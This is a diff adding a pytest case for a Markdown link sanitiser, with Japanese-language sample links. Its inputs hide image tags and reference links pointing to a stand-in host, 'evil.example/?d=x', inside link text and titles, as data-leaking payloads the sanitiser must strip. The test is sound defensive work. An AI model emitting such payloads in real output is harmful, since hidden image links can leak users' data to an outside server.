@@ -41,6 +41,21 @@ def test_an_image_or_an_address_that_was_not_given_is_no_link(said: str) -> None
 
 
 @pytest.mark.parametrize(
+    ("said", "left"),
+    [
+        (
+            "[<img src=//evil.example/?d=x>](https://example.jp/form)",
+            "[< img src=//evil.example/?d=x>](https://example.jp/form)",
+        ),
+        ('[様式](https://example.jp/form "題\n\n[r]: //evil.example/?d=x\n")', "[様式](https://example.jp/form)"),
+        ("[様式](<https://example.jp/form> '<img src=//evil.example/p>')", "[様式](https://example.jp/form)"),
+    ],
+)
+def test_nothing_hides_in_a_link_that_stays(said: str, left: str) -> None:
+    assert without_strange_addresses(said, KNOWN) == left
+
+
+@pytest.mark.parametrize(
     "said",
     [
         "[様式](https://example.jp/form)から申請します[1]。",
